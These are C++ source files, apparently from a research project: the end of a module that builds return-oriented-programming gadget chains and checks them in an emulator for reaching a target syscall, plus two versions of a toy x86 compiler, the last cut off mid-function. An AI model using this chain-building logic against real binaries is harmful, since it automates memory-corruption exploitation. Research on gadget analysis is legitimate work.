  chain.goal_name = goal.name;
  chain.gadgets = ordered;
  chain.payload = std::move(payload);
  chain.entry = lib[ordered.front()].addr;
  for (const u32 gi : ordered) {
    const Record& g = lib[gi];
    chain.total_insts += g.n_insts;
    if (g.has_cond_jump) ++chain.cj_gadgets;
    else if (g.end == EndKind::Ret) ++chain.ret_gadgets;
    else if (g.end == EndKind::IndJmp || g.end == EndKind::IndCall)
      ++chain.ij_gadgets;
    if (g.has_direct_jump && !g.has_cond_jump) ++chain.dj_gadgets;
  }

  // End-to-end validation with randomized uncontrolled registers.
  for (int trial = 0; trial < opts.validation_trials; ++trial) {
    if (!validate(img, chain, goal, opts.stack_base,
                  0xc0ffee + 7919 * trial)) {
      ++cs.validation_failed;
      return std::nullopt;
    }
  }
  ++cs.ok;
  return chain;
  } catch (const ResourceExhausted&) {
    ++cs.resource_cut;
    return std::nullopt;
  }
}

bool validate(const image::Image& img, const Chain& chain, const Goal& goal,
              u64 stack_base, u64 reg_seed) {
  emu::Emulator e(img);
  Rng rng(reg_seed);
  for (int i = 0; i < x86::kNumRegs; ++i) {
    const Reg r = static_cast<Reg>(i);
    if (r == Reg::RSP) continue;
    // Uncontrolled registers get arbitrary (but canonical-address-sized)
    // values: a payload must not depend on them.
    e.set_reg(r, rng.next() & 0x7fffffffffffULL);
  }
  e.set_reg(Reg::RSP, stack_base);
  e.memory().write_bytes(stack_base, chain.payload);
  e.set_rip(chain.entry);

  const auto result = e.run(200'000);
  if (config().debug_val) {
    fprintf(stderr, "validate: stop=%s at rip=%llx steps=%llu syscall=%llu\n",
            emu::stop_reason_name(result.reason),
            (unsigned long long)result.rip,
            (unsigned long long)result.steps,
            (unsigned long long)result.syscall_no);
    for (const RegTarget& t : goal.regs)
      fprintf(stderr, "  %s = %llx (want %llx)\n", x86::reg_name(t.reg),
              (unsigned long long)e.reg(t.reg),
              (unsigned long long)t.value);
  }
  if (result.reason != emu::StopReason::Syscall) return false;
  if (result.syscall_no != goal.syscall_no) return false;
  for (const RegTarget& t : goal.regs) {
    const u64 v = e.reg(t.reg);
    if (t.kind == RegTarget::Kind::Const) {
      if (v != t.value) return false;
    } else {
      const auto mem = e.memory().read_bytes(v, t.bytes.size());
      if (!std::equal(t.bytes.begin(), t.bytes.end(), mem.begin()))
        return false;
    }
  }
  return true;
}

}  // namespace gp::payload
