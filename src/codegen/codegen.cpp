#include "codegen/codegen.hpp"

#include <algorithm>
#include <array>
#include <climits>
#include <optional>
#include <unordered_map>

#include "cfg/opt.hpp"
#include "x86/encoder.hpp"

namespace gp::codegen {

using cfg::Block;
using cfg::Function;
using cfg::Instr;
using cfg::Opcode;
using cfg::Program;
using cfg::Temp;
using cfg::Terminator;
using x86::Assembler;
using x86::Cond;
using x86::MemRef;
using x86::Mnemonic;
using x86::Reg;

OptLevel opt_level_from_int(int level) {
  if (level < 0 || level > 2)
    throw Error("invalid opt level '" + std::to_string(level) +
                "' (valid levels: 0, 1, 2)");
  return static_cast<OptLevel>(level);
}

const char* opt_level_name(OptLevel level) {
  switch (level) {
    case OptLevel::O0: return "O0";
    case OptLevel::O1: return "O1";
    case OptLevel::O2: return "O2";
  }
  return "O?";
}

namespace {

constexpr Reg kArgRegs[6] = {Reg::RDI, Reg::RSI, Reg::RDX,
                             Reg::RCX, Reg::R8,  Reg::R9};
constexpr Reg kCalleeSaved[] = {Reg::RBX, Reg::R12, Reg::R13,
                                Reg::R14, Reg::R15};

Cond cond_of(Opcode op) {
  switch (op) {
    case Opcode::CmpEq: return Cond::E;
    case Opcode::CmpNe: return Cond::NE;
    case Opcode::CmpLt: return Cond::L;
    case Opcode::CmpLe: return Cond::LE;
    case Opcode::CmpGt: return Cond::G;
    case Opcode::CmpGe: return Cond::GE;
    default: fail("not a comparison opcode");
  }
}

class FunctionCompiler {
 public:
  FunctionCompiler(Assembler& a, const Function& f, OptLevel opt,
                   const std::vector<Assembler::Label>& fn_labels,
                   std::vector<std::pair<i64, Assembler::Label>>& table_fixups,
                   std::vector<u8>& data)
      : a_(a), f_(f), opt_(opt), fn_labels_(fn_labels),
        table_fixups_(table_fixups), data_(data) {
    block_labels_.reserve(f.blocks.size());
    for (size_t i = 0; i < f.blocks.size(); ++i)
      block_labels_.push_back(a_.new_label());
    held_.fill(cfg::kNoTemp);
    allocate_registers();
    build_slot_map();
  }

  void run() {
    prologue();
    // Entry block first (fall into it), then the rest in order.
    emit_block(f_.entry);
    for (size_t b = 0; b < f_.blocks.size(); ++b)
      if (static_cast<cfg::BlockId>(b) != f_.entry)
        emit_block(static_cast<cfg::BlockId>(b));
  }

 private:
  template <typename Fn>
  void for_each_temp(Fn&& touch) const {
    for (const Block& b : f_.blocks) {
      for (const Instr& in : b.instrs) {
        touch(in.dst);
        touch(in.a);
        touch(in.b);
        for (const Temp t : in.args) touch(t);
      }
      touch(b.term.cond);
      touch(b.term.value);
    }
  }

  void allocate_registers() {
    if (opt_ == OptLevel::O2)
      linear_scan();
    else
      rank_by_use_count();
  }

  /// O0/O1: like a real compiler's cheapest heuristic, the hottest temps
  /// live in callee-saved registers (saved in the prologue, restored with
  /// a `pop` run in the epilogue — which is exactly where compiled
  /// binaries get their classic `pop reg; ... ; pop rbp; ret` gadget
  /// shapes).
  void rank_by_use_count() {
    std::unordered_map<Temp, int> uses;
    for_each_temp([&](Temp t) {
      if (t != cfg::kNoTemp) ++uses[t];
    });
    std::vector<std::pair<int, Temp>> ranked;
    for (const auto& [t, n] : uses) ranked.push_back({n, t});
    std::sort(ranked.begin(), ranked.end(),
              [](const auto& x, const auto& y) {
                if (x.first != y.first) return x.first > y.first;
                return x.second < y.second;
              });
    for (const auto& [n, t] : ranked) {
      if (saved_.size() >= std::size(kCalleeSaved)) break;
      const Reg r = kCalleeSaved[saved_.size()];
      reg_alloc_.emplace(t, r);
      saved_.push_back(r);
    }
  }

  /// O2: linear-scan register allocation over conservative live intervals.
  /// Each temp's interval is the [min, max] span of positions (in emission
  /// order) where it is defined, used, or block-live; under register
  /// pressure the interval with the furthest end spills for its whole
  /// life (no interval splitting — a temp is either register- or
  /// slot-resident). Only callee-saved registers are used, so calls and
  /// syscalls never clobber an allocation. Fully deterministic: ties
  /// break on temp id.
  void linear_scan() {
    std::vector<cfg::BlockId> order;
    order.push_back(f_.entry);
    for (size_t b = 0; b < f_.blocks.size(); ++b)
      if (static_cast<cfg::BlockId>(b) != f_.entry)
        order.push_back(static_cast<cfg::BlockId>(b));

    const size_t nt = static_cast<size_t>(f_.num_temps);
    const cfg::Liveness lv = cfg::compute_liveness(f_);
    std::vector<int> start(nt, INT_MAX), end(nt, -1);
    auto extend = [&](Temp t, int pos) {
      if (t == cfg::kNoTemp) return;
      start[t] = std::min(start[t], pos);
      end[t] = std::max(end[t], pos);
    };
    int pos = 0;
    for (const cfg::BlockId bid : order) {
      const Block& blk = f_.blocks[bid];
      const int bstart = pos;
      for (const Instr& in : blk.instrs) {
        extend(in.a, pos);
        extend(in.b, pos);
        for (const Temp t : in.args) extend(t, pos);
        extend(in.dst, pos);
        ++pos;
      }
      extend(blk.term.cond, pos);
      extend(blk.term.value, pos);
      const int bend = pos++;
      for (size_t t = 0; t < nt; ++t) {
        if (lv.live_in[bid][t]) extend(static_cast<Temp>(t), bstart);
        if (lv.live_out[bid][t]) extend(static_cast<Temp>(t), bend);
      }
    }
    // Params are defined by the prologue, before every block.
    for (int p = 0; p < f_.num_params; ++p)
      if (end[p] >= 0) start[p] = -1;

    std::vector<Temp> ivs;
    for (size_t t = 0; t < nt; ++t)
      if (end[t] >= 0) ivs.push_back(static_cast<Temp>(t));
    std::sort(ivs.begin(), ivs.end(), [&](Temp x, Temp y) {
      if (start[x] != start[y]) return start[x] < start[y];
      return x < y;
    });

    auto reg_rank = [](Reg r) {
      for (size_t i = 0; i < std::size(kCalleeSaved); ++i)
        if (kCalleeSaved[i] == r) return i;
      fail("linear_scan: not a callee-saved register");
    };
    std::vector<Reg> free_regs(std::rbegin(kCalleeSaved),
                               std::rend(kCalleeSaved));
    std::vector<Temp> active;
    for (const Temp t : ivs) {
      for (size_t i = active.size(); i-- > 0;) {
        const Temp a = active[i];
        if (end[a] < start[t]) {
          free_regs.push_back(reg_alloc_.at(a));
          active.erase(active.begin() + static_cast<i64>(i));
        }
      }
      // Lowest-ranked register first (pop from the back of the
      // reverse-ordered free list, re-sorted after expiries).
      std::sort(free_regs.begin(), free_regs.end(),
                [&](Reg x, Reg y) { return reg_rank(x) > reg_rank(y); });
      if (!free_regs.empty()) {
        reg_alloc_.emplace(t, free_regs.back());
        free_regs.pop_back();
        active.push_back(t);
        continue;
      }
      Temp victim = t;
      for (const Temp a : active)
        if (end[a] > end[victim] || (end[a] == end[victim] && a > victim))
          victim = a;
      if (victim != t) {
        const Reg r = reg_alloc_.at(victim);
        reg_alloc_.erase(victim);
        active.erase(std::find(active.begin(), active.end(), victim));
        reg_alloc_.emplace(t, r);
        active.push_back(t);
      }
    }

    for (const Reg r : kCalleeSaved)
      for (const auto& [t, alloc] : reg_alloc_)
        if (alloc == r) {
          saved_.push_back(r);
          break;
        }
  }

  /// O0 keeps the reference discipline: every temp owns frame slot `t`.
  /// At O1+ only temps that can actually hit memory get one — params (the
  /// prologue stores them) and referenced temps without a register — and
  /// the frame shrinks accordingly.
  void build_slot_map() {
    if (opt_ == OptLevel::O0) {
      num_slots_ = f_.num_temps;
      return;
    }
    std::vector<bool> needs(static_cast<size_t>(f_.num_temps), false);
    for (int p = 0; p < f_.num_params; ++p) needs[static_cast<size_t>(p)] = true;
    for_each_temp([&](Temp t) {
      if (t != cfg::kNoTemp) needs[static_cast<size_t>(t)] = true;
    });
    slot_index_.assign(static_cast<size_t>(f_.num_temps), -1);
    i32 next = 0;
    for (Temp t = 0; t < f_.num_temps; ++t)
      if (needs[static_cast<size_t>(t)] && !reg_alloc_.count(t))
        slot_index_[static_cast<size_t>(t)] = next++;
    num_slots_ = next;
  }

  std::optional<Reg> reg_of(Temp t) const {
    auto it = reg_alloc_.find(t);
    if (it == reg_alloc_.end()) return std::nullopt;
    return it->second;
  }
  MemRef slot(Temp t) const {
    GP_CHECK(t >= 0 && t < f_.num_temps, "codegen: temp out of range");
    i64 idx = t;
    if (opt_ != OptLevel::O0) {
      idx = slot_index_[static_cast<size_t>(t)];
      GP_CHECK(idx >= 0, "codegen: temp has no frame slot");
    }
    return MemRef{.base = Reg::RBP,
                  .disp = static_cast<i32>(-8 * static_cast<i64>(saved_.size()) -
                                           8 * (idx + 1))};
  }
  i32 frame_area_disp(i64 off) const {
    return static_cast<i32>(-8 * static_cast<i64>(saved_.size()) -
                            (8 * num_slots_ + f_.frame_bytes) + off);
  }

  // O1+ peephole: a register-value cache over emission. held_[r] is the
  // temp whose current value register r is known to hold; a load that
  // would reproduce it is elided. Every instruction that writes a
  // register outside load()/store() must clobber() it, and join points
  // (block labels) and calls/syscalls forget everything.
  Temp& held(Reg r) { return held_[static_cast<size_t>(r)]; }
  void clobber(Reg r) { held(r) = cfg::kNoTemp; }
  void clobber_all() { held_.fill(cfg::kNoTemp); }
  void forget(Temp t) {
    for (Temp& h : held_)
      if (h == t) h = cfg::kNoTemp;
  }

  void load(Reg r, Temp t) {
    if (opt_ != OptLevel::O0 && held(r) == t) return;
    if (const auto alloc = reg_of(t)) {
      if (*alloc != r) a_.mov(r, *alloc);
    } else {
      a_.mov_load(r, slot(t));
    }
    held(r) = t;
  }
  void store(Temp t, Reg r) {
    forget(t);  // every cached copy of t's old value is now stale
    if (const auto alloc = reg_of(t)) {
      if (*alloc != r) a_.mov(*alloc, r);
    } else {
      a_.mov_store(slot(t), r);
    }
    held(r) = t;
  }

  void prologue() {
    a_.push(Reg::RBP);
    a_.mov(Reg::RBP, Reg::RSP);
    for (const Reg r : saved_) a_.push(r);
    const i64 frame = 8 * num_slots_ + f_.frame_bytes;
    if (frame > 0) a_.alu_imm(Mnemonic::SUB, Reg::RSP, static_cast<i32>(frame));
    for (int i = 0; i < f_.num_params; ++i) store(i, kArgRegs[i]);
  }

  void epilogue() {
    if (saved_.empty()) {
      a_.leave();
    } else {
      a_.lea(Reg::RSP,
             MemRef{.base = Reg::RBP,
                    .disp = static_cast<i32>(-8 *
                                             static_cast<i64>(saved_.size()))});
      for (size_t i = saved_.size(); i-- > 0;) a_.pop(saved_[i]);
      a_.pop(Reg::RBP);
    }
    a_.ret();
  }

  void emit_block(cfg::BlockId id) {
    a_.bind(block_labels_[id]);
    clobber_all();  // labels are join points; nothing survives into them
    const Block& blk = f_.blocks[id];
    for (const Instr& in : blk.instrs) emit_instr(in);
    emit_term(blk.term);
  }

  void emit_instr(const Instr& in) {
    switch (in.op) {
      case Opcode::Const:
        a_.mov_imm(Reg::RAX, in.imm);
        clobber(Reg::RAX);
        store(in.dst, Reg::RAX);
        break;
      case Opcode::Copy:
        load(Reg::RAX, in.a);
        store(in.dst, Reg::RAX);
        break;
      case Opcode::Add: case Opcode::Sub: case Opcode::And:
      case Opcode::Or: case Opcode::Xor: {
        Mnemonic mn;
        switch (in.op) {
          case Opcode::Add: mn = Mnemonic::ADD; break;
          case Opcode::Sub: mn = Mnemonic::SUB; break;
          case Opcode::And: mn = Mnemonic::AND; break;
          case Opcode::Or: mn = Mnemonic::OR; break;
          default: mn = Mnemonic::XOR; break;
        }
        load(Reg::RAX, in.a);
        load(Reg::RCX, in.b);
        a_.alu(mn, Reg::RAX, Reg::RCX);
        clobber(Reg::RAX);
        store(in.dst, Reg::RAX);
        break;
      }
      case Opcode::Mul:
        load(Reg::RAX, in.a);
        load(Reg::RCX, in.b);
        a_.imul(Reg::RAX, Reg::RCX);
        clobber(Reg::RAX);
        store(in.dst, Reg::RAX);
        break;
      case Opcode::Shl: case Opcode::Sar: case Opcode::Shr: {
        const Mnemonic mn = in.op == Opcode::Shl   ? Mnemonic::SHL
                            : in.op == Opcode::Sar ? Mnemonic::SAR
                                                   : Mnemonic::SHR;
        load(Reg::RAX, in.a);
        load(Reg::RCX, in.b);
        a_.shift_cl(mn, Reg::RAX);
        clobber(Reg::RAX);
        store(in.dst, Reg::RAX);
        break;
      }
      case Opcode::Not:
        load(Reg::RAX, in.a);
        a_.unary(Mnemonic::NOT, Reg::RAX);
        clobber(Reg::RAX);
        store(in.dst, Reg::RAX);
        break;
      case Opcode::Neg:
        load(Reg::RAX, in.a);
        a_.unary(Mnemonic::NEG, Reg::RAX);
        clobber(Reg::RAX);
        store(in.dst, Reg::RAX);
        break;
      case Opcode::CmpEq: case Opcode::CmpNe: case Opcode::CmpLt:
      case Opcode::CmpLe: case Opcode::CmpGt: case Opcode::CmpGe: {
        // Branchless, like real compiler output: cmp + cmovcc.
        load(Reg::RAX, in.a);
        load(Reg::RCX, in.b);
        a_.alu(Mnemonic::CMP, Reg::RAX, Reg::RCX);
        a_.mov_imm(Reg::RAX, 0);
        clobber(Reg::RAX);
        a_.mov_imm(Reg::RDX, 1);
        clobber(Reg::RDX);
        a_.cmov(cond_of(in.op), Reg::RAX, Reg::RDX);
        store(in.dst, Reg::RAX);
        break;
      }
      case Opcode::Load:
        load(Reg::RAX, in.a);
        a_.mov_load(Reg::RAX, MemRef{.base = Reg::RAX,
                                     .disp = static_cast<i32>(in.imm)});
        clobber(Reg::RAX);
        store(in.dst, Reg::RAX);
        break;
      case Opcode::LoadB:
        load(Reg::RAX, in.a);
        a_.movzx_load(Reg::RAX, MemRef{.base = Reg::RAX,
                                       .disp = static_cast<i32>(in.imm)});
        clobber(Reg::RAX);
        store(in.dst, Reg::RAX);
        break;
      case Opcode::Store:
        load(Reg::RAX, in.a);
        load(Reg::RCX, in.b);
        a_.mov_store(MemRef{.base = Reg::RAX,
                            .disp = static_cast<i32>(in.imm)},
                     Reg::RCX);
        break;
      case Opcode::StoreB: {
        // Read-modify-write of the containing 8 bytes.
        load(Reg::RAX, in.a);
        a_.mov_load(Reg::RDX, MemRef{.base = Reg::RAX,
                                     .disp = static_cast<i32>(in.imm)});
        clobber(Reg::RDX);
        a_.mov_imm(Reg::RCX, ~i64{0xff});
        clobber(Reg::RCX);
        a_.alu(Mnemonic::AND, Reg::RDX, Reg::RCX);
        load(Reg::RCX, in.b);
        a_.alu_imm(Mnemonic::AND, Reg::RCX, 0xff);
        clobber(Reg::RCX);
        a_.alu(Mnemonic::OR, Reg::RDX, Reg::RCX);
        a_.mov_store(MemRef{.base = Reg::RAX,
                            .disp = static_cast<i32>(in.imm)},
                     Reg::RDX);
        break;
      }
      case Opcode::FrameAddr:
        a_.lea(Reg::RAX, MemRef{.base = Reg::RBP,
                                .disp = frame_area_disp(in.imm)});
        clobber(Reg::RAX);
        store(in.dst, Reg::RAX);
        break;
      case Opcode::GlobalAddr:
        a_.mov_imm(Reg::RAX,
                   static_cast<i64>(image::kDataBase) + in.imm);
        clobber(Reg::RAX);
        store(in.dst, Reg::RAX);
        break;
      case Opcode::Call: {
        for (size_t i = 0; i < in.args.size(); ++i)
          load(kArgRegs[i], in.args[i]);
        a_.call(fn_labels_[in.imm]);
        clobber_all();
        store(in.dst, Reg::RAX);
        break;
      }
      case Opcode::Out: {
        // Stage the value in the data-section scratch slot, then write(1).
        load(Reg::RAX, in.a);
        a_.mov_imm(Reg::RSI, static_cast<i64>(image::kDataBase) +
                                 static_cast<i64>(out_scratch_offset(data_)));
        clobber(Reg::RSI);
        a_.mov_store(MemRef{.base = Reg::RSI}, Reg::RAX);
        a_.mov_imm(Reg::RAX, 1);
        a_.mov_imm(Reg::RDI, 1);
        a_.mov_imm(Reg::RDX, 8);
        a_.syscall();
        clobber_all();
        break;
      }
    }
  }

  void emit_term(const Terminator& t) {
    switch (t.kind) {
      case Terminator::Kind::Jump:
        a_.jmp(block_labels_[t.target]);
        break;
      case Terminator::Kind::Branch:
        load(Reg::RAX, t.cond);
        a_.alu(Mnemonic::TEST, Reg::RAX, Reg::RAX);
        a_.jcc(Cond::NE, block_labels_[t.target]);
        a_.jmp(block_labels_[t.fallthrough]);
        break;
      case Terminator::Kind::Switch: {
        // Reserve an absolute-address table in data; patched after layout.
        const i64 table_off = static_cast<i64>(data_.size());
        data_.resize(data_.size() + 8 * t.table.size(), 0);
        for (size_t i = 0; i < t.table.size(); ++i)
          table_fixups_.push_back(
              {table_off + 8 * static_cast<i64>(i),
               block_labels_[t.table[i]]});
        // A selector the IR range analysis proves in [0, n) dispatches
        // unchecked — the same elision a real compiler's value-range
        // analysis performs on compiler-generated jump tables (flatten's
        // state machine is the canonical producer). Anything unprovable
        // (loads, parameters) gets a runtime bounds check: out of range
        // (unsigned compare, so negative too) falls into int3 instead of
        // indexing past the table through whatever bytes follow it. The
        // check sits before a fresh reload of the selector, so the
        // dispatch proper stays one unbroken load->shl->add->jmp run.
        if (!cfg::switch_selector_bounded(f_, t)) {
          const Assembler::Label dispatch = a_.new_label();
          load(Reg::RAX, t.cond);
          a_.alu_imm(Mnemonic::CMP, Reg::RAX,
                     static_cast<i32>(t.table.size()));
          a_.jcc(Cond::B, dispatch);
          a_.int3();
          a_.bind(dispatch);
        }
        load(Reg::RAX, t.cond);
        a_.shift_imm(Mnemonic::SHL, Reg::RAX, 3);
        a_.mov_imm(Reg::RCX,
                   static_cast<i64>(image::kDataBase) + table_off);
        a_.alu(Mnemonic::ADD, Reg::RCX, Reg::RAX);
        a_.jmp_mem(MemRef{.base = Reg::RCX});
        break;
      }
      case Terminator::Kind::Ret:
        load(Reg::RAX, t.value);
        epilogue();
        break;
    }
  }

  /// The 8-byte Out scratch slot lives at a fixed offset recorded once per
  /// compile in compile() below; this helper reads it back.
  static i64 out_scratch_offset(const std::vector<u8>&);

  Assembler& a_;
  const Function& f_;
  const OptLevel opt_;
  const std::vector<Assembler::Label>& fn_labels_;
  std::vector<std::pair<i64, Assembler::Label>>& table_fixups_;
  std::vector<u8>& data_;
  std::vector<Assembler::Label> block_labels_;
  std::unordered_map<Temp, Reg> reg_alloc_;
  std::vector<Reg> saved_;
  std::vector<i32> slot_index_;  // O1+: temp -> compacted slot (-1 = none)
  i64 num_slots_ = 0;
  std::array<Temp, x86::kNumRegs> held_;
};

// Scratch offset is communicated via a thread-local set by compile();
// keeps FunctionCompiler free of extra plumbing.
thread_local i64 g_out_scratch = 0;
i64 FunctionCompiler::out_scratch_offset(const std::vector<u8>&) {
  return g_out_scratch;
}

}  // namespace

image::Image compile(const Program& prog, const Options& opts) {
  cfg::verify(prog);

  // O1+: clean the IR first (obfuscate-then-optimize — the caller's
  // obfuscation passes already ran; see DESIGN.md "Optimizer pass
  // ordering"). The caller's program is never mutated.
  const Program* src = &prog;
  Program optimized;
  if (opts.opt != OptLevel::O0) {
    optimized = prog;
    cfg::optimize(optimized);
    cfg::verify(optimized);
    src = &optimized;
  }
  const Program& p = *src;

  std::vector<u8> data = p.data;
  // 8-byte scratch slot used by Out, 8-aligned.
  data.resize((data.size() + 7) & ~size_t{7}, 0);
  g_out_scratch = static_cast<i64>(data.size());
  data.resize(data.size() + 8, 0);

  Assembler a;
  a.set_base(image::kCodeBase);
  std::vector<Assembler::Label> fn_labels;
  for (size_t i = 0; i < p.functions.size(); ++i)
    fn_labels.push_back(a.new_label());
  std::vector<std::pair<i64, Assembler::Label>> table_fixups;

  // Entry stub.
  a.call(fn_labels[p.main_index]);
  a.mov(Reg::RDI, Reg::RAX);
  a.mov_imm(Reg::RAX, 60);
  a.syscall();

  std::vector<std::pair<std::string, i64>> symbol_offsets;
  for (size_t i = 0; i < p.functions.size(); ++i) {
    if (opts.pad_functions)
      for (int k = 0; k < 4; ++k) a.int3();
    a.bind(fn_labels[i]);
    symbol_offsets.emplace_back(p.functions[i].name,
                                a.label_offset(fn_labels[i]));
    FunctionCompiler fc(a, p.functions[i], opts.opt, fn_labels, table_fixups,
                        data);
    fc.run();
  }

  // Resolve switch tables now that label offsets are final.
  for (const auto& [data_off, label] : table_fixups) {
    const u64 addr = image::kCodeBase +
                     static_cast<u64>(a.label_offset(label));
    for (int i = 0; i < 8; ++i)
      data[data_off + i] = static_cast<u8>(addr >> (8 * i));
  }

  image::Image img(a.finish(), data, image::kCodeBase);
  for (auto& [name, off] : symbol_offsets)
    img.add_symbol(name, image::kCodeBase + static_cast<u64>(off));
  return img;
}

}  // namespace gp::codegen
