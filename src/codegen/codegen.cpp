#include "codegen/codegen.hpp"

#include <algorithm>
#include <optional>
#include <unordered_map>

#include "x86/encoder.hpp"

namespace gp::codegen {

using cfg::Block;
using cfg::Function;
using cfg::Instr;
using cfg::Opcode;
using cfg::Program;
using cfg::Temp;
using cfg::Terminator;
using x86::Assembler;
using x86::Cond;
using x86::MemRef;
using x86::Mnemonic;
using x86::Reg;

namespace {

constexpr Reg kArgRegs[6] = {Reg::RDI, Reg::RSI, Reg::RDX,
                             Reg::RCX, Reg::R8,  Reg::R9};

Cond cond_of(Opcode op) {
  switch (op) {
    case Opcode::CmpEq: return Cond::E;
    case Opcode::CmpNe: return Cond::NE;
    case Opcode::CmpLt: return Cond::L;
    case Opcode::CmpLe: return Cond::LE;
    case Opcode::CmpGt: return Cond::G;
    case Opcode::CmpGe: return Cond::GE;
    default: fail("not a comparison opcode");
  }
}

class FunctionCompiler {
 public:
  FunctionCompiler(Assembler& a, const Function& f,
                   const std::vector<Assembler::Label>& fn_labels,
                   std::vector<std::pair<i64, Assembler::Label>>& table_fixups,
                   std::vector<u8>& data)
      : a_(a), f_(f), fn_labels_(fn_labels), table_fixups_(table_fixups),
        data_(data) {
    block_labels_.reserve(f.blocks.size());
    for (size_t i = 0; i < f.blocks.size(); ++i)
      block_labels_.push_back(a_.new_label());
    allocate_registers();
  }

  void run() {
    prologue();
    // Entry block first (fall into it), then the rest in order.
    emit_block(f_.entry);
    for (size_t b = 0; b < f_.blocks.size(); ++b)
      if (static_cast<cfg::BlockId>(b) != f_.entry)
        emit_block(static_cast<cfg::BlockId>(b));
  }

 private:
  /// Like a real compiler, the hottest temps live in callee-saved registers
  /// (saved in the prologue, restored with a `pop` run in the epilogue —
  /// which is exactly where compiled binaries get their classic
  /// `pop reg; ... ; pop rbp; ret` gadget shapes).
  void allocate_registers() {
    static const Reg kCalleeSaved[] = {Reg::RBX, Reg::R12, Reg::R13,
                                       Reg::R14, Reg::R15};
    std::unordered_map<Temp, int> uses;
    auto touch = [&](Temp t) {
      if (t != cfg::kNoTemp) ++uses[t];
    };
    for (const Block& b : f_.blocks) {
      for (const Instr& in : b.instrs) {
        touch(in.dst);
        touch(in.a);
        touch(in.b);
        for (const Temp t : in.args) touch(t);
      }
      touch(b.term.cond);
      touch(b.term.value);
    }
    std::vector<std::pair<int, Temp>> ranked;
    for (const auto& [t, n] : uses) ranked.push_back({n, t});
    std::sort(ranked.begin(), ranked.end(),
              [](const auto& x, const auto& y) {
                if (x.first != y.first) return x.first > y.first;
                return x.second < y.second;
              });
    for (const auto& [n, t] : ranked) {
      if (saved_.size() >= std::size(kCalleeSaved)) break;
      const Reg r = kCalleeSaved[saved_.size()];
      reg_alloc_.emplace(t, r);
      saved_.push_back(r);
    }
  }

  std::optional<Reg> reg_of(Temp t) const {
    auto it = reg_alloc_.find(t);
    if (it == reg_alloc_.end()) return std::nullopt;
    return it->second;
  }
  MemRef slot(Temp t) const {
    GP_CHECK(t >= 0 && t < f_.num_temps, "codegen: temp out of range");
    return MemRef{.base = Reg::RBP,
                  .disp = static_cast<i32>(-8 * static_cast<i64>(saved_.size()) -
                                           8 * (t + 1))};
  }
  i32 frame_area_disp(i64 off) const {
    return static_cast<i32>(-8 * static_cast<i64>(saved_.size()) -
                            (8 * f_.num_temps + f_.frame_bytes) + off);
  }
  void load(Reg r, Temp t) {
    if (const auto alloc = reg_of(t)) {
      if (*alloc != r) a_.mov(r, *alloc);
    } else {
      a_.mov_load(r, slot(t));
    }
  }
  void store(Temp t, Reg r) {
    if (const auto alloc = reg_of(t)) {
      if (*alloc != r) a_.mov(*alloc, r);
    } else {
      a_.mov_store(slot(t), r);
    }
  }

  void prologue() {
    a_.push(Reg::RBP);
    a_.mov(Reg::RBP, Reg::RSP);
    for (const Reg r : saved_) a_.push(r);
    const i64 frame = 8 * f_.num_temps + f_.frame_bytes;
    if (frame > 0) a_.alu_imm(Mnemonic::SUB, Reg::RSP, static_cast<i32>(frame));
    for (int i = 0; i < f_.num_params; ++i) store(i, kArgRegs[i]);
  }

  void epilogue() {
    if (saved_.empty()) {
      a_.leave();
    } else {
      a_.lea(Reg::RSP,
             MemRef{.base = Reg::RBP,
                    .disp = static_cast<i32>(-8 *
                                             static_cast<i64>(saved_.size()))});
      for (size_t i = saved_.size(); i-- > 0;) a_.pop(saved_[i]);
      a_.pop(Reg::RBP);
    }
    a_.ret();
  }

  void emit_block(cfg::BlockId id) {
    a_.bind(block_labels_[id]);
    const Block& blk = f_.blocks[id];
    for (const Instr& in : blk.instrs) emit_instr(in);
    emit_term(blk.term);
  }

  void emit_instr(const Instr& in) {
    switch (in.op) {
      case Opcode::Const:
        a_.mov_imm(Reg::RAX, in.imm);
        store(in.dst, Reg::RAX);
        break;
      case Opcode::Copy:
        load(Reg::RAX, in.a);
        store(in.dst, Reg::RAX);
        break;
      case Opcode::Add: case Opcode::Sub: case Opcode::And:
      case Opcode::Or: case Opcode::Xor: {
        static const Mnemonic m[] = {Mnemonic::ADD, Mnemonic::SUB,
                                     Mnemonic::AND, Mnemonic::OR,
                                     Mnemonic::XOR};
        const int idx = static_cast<int>(in.op) - static_cast<int>(Opcode::Add);
        // Add..Xor are contiguous in Opcode except Mul sits between Sub and
        // And; map explicitly instead.
        Mnemonic mn;
        switch (in.op) {
          case Opcode::Add: mn = m[0]; break;
          case Opcode::Sub: mn = m[1]; break;
          case Opcode::And: mn = m[2]; break;
          case Opcode::Or: mn = m[3]; break;
          default: mn = m[4]; break;
        }
        (void)idx;
        load(Reg::RAX, in.a);
        load(Reg::RCX, in.b);
        a_.alu(mn, Reg::RAX, Reg::RCX);
        store(in.dst, Reg::RAX);
        break;
      }
      case Opcode::Mul:
        load(Reg::RAX, in.a);
        load(Reg::RCX, in.b);
        a_.imul(Reg::RAX, Reg::RCX);
        store(in.dst, Reg::RAX);
        break;
      case Opcode::Shl: case Opcode::Sar: case Opcode::Shr: {
        const Mnemonic mn = in.op == Opcode::Shl   ? Mnemonic::SHL
                            : in.op == Opcode::Sar ? Mnemonic::SAR
                                                   : Mnemonic::SHR;
        load(Reg::RAX, in.a);
        load(Reg::RCX, in.b);
        a_.shift_cl(mn, Reg::RAX);
        store(in.dst, Reg::RAX);
        break;
      }
      case Opcode::Not:
        load(Reg::RAX, in.a);
        a_.unary(Mnemonic::NOT, Reg::RAX);
        store(in.dst, Reg::RAX);
        break;
      case Opcode::Neg:
        load(Reg::RAX, in.a);
        a_.unary(Mnemonic::NEG, Reg::RAX);
        store(in.dst, Reg::RAX);
        break;
      case Opcode::CmpEq: case Opcode::CmpNe: case Opcode::CmpLt:
      case Opcode::CmpLe: case Opcode::CmpGt: case Opcode::CmpGe: {
        // Branchless, like real compiler output: cmp + cmovcc.
        load(Reg::RAX, in.a);
        load(Reg::RCX, in.b);
        a_.alu(Mnemonic::CMP, Reg::RAX, Reg::RCX);
        a_.mov_imm(Reg::RAX, 0);
        a_.mov_imm(Reg::RDX, 1);
        a_.cmov(cond_of(in.op), Reg::RAX, Reg::RDX);
        store(in.dst, Reg::RAX);
        break;
      }
      case Opcode::Load:
        load(Reg::RAX, in.a);
        a_.mov_load(Reg::RAX, MemRef{.base = Reg::RAX,
                                     .disp = static_cast<i32>(in.imm)});
        store(in.dst, Reg::RAX);
        break;
      case Opcode::LoadB:
        load(Reg::RAX, in.a);
        a_.movzx_load(Reg::RAX, MemRef{.base = Reg::RAX,
                                       .disp = static_cast<i32>(in.imm)});
